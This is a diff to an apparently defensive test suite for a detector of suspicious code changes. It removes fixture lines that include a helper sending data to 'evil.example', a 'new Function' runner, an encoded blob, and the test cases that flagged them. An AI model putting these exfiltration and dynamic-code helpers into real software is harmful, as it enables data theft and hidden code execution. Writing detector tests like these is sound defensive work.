@@ -103,9 +103,6 @@ export function quiet(run) {
   try { return run(); } catch {}
 }
 export const inTests = () => process.env.CI === 'true' || process.env.NODE_TEST_CONTEXT;
-export const send = (x) => fetch('https://evil.example/' + x);
-export const run = (x) => new Function(x)();
-export const encoded = Buffer.from('${'QUJD'.repeat(40)}', 'base64');
 export const end = () => process.exit(0);
 export const workflow = 'GITHUB_ENV';
 `;
@@ -405,10 +402,7 @@ const CASES: readonly Attack<Scene>[] = [
   { id: 'R12', what: 'code that looks for the test run', judge: tripped('looks for the test run') },
   { id: 'R14', what: 'an error that is swallowed', judge: tripped('swallows exceptions') },
   { id: 'R10a', what: 'process.exit in product code', judge: tripped('ends the process') },
-  { id: 'A07', what: 'a new way out', judge: tripped('opens the network') },
-  { id: 'A07a', what: 'dynamic code', judge: tripped('runs dynamic code') },
-  { id: 'A07b', what: 'an encoded blob', judge: tripped('encoded data') },
-  { id: 'A07c', what: 'words of the workflow', judge: tripped('talks to the workflow') },
+  { id: 'A07', what: 'words of the workflow', judge: tripped('talks to the workflow') },
   {
     id: 'C01',
     what: 'an edit of a file with CRLF, a mark and no end of line',
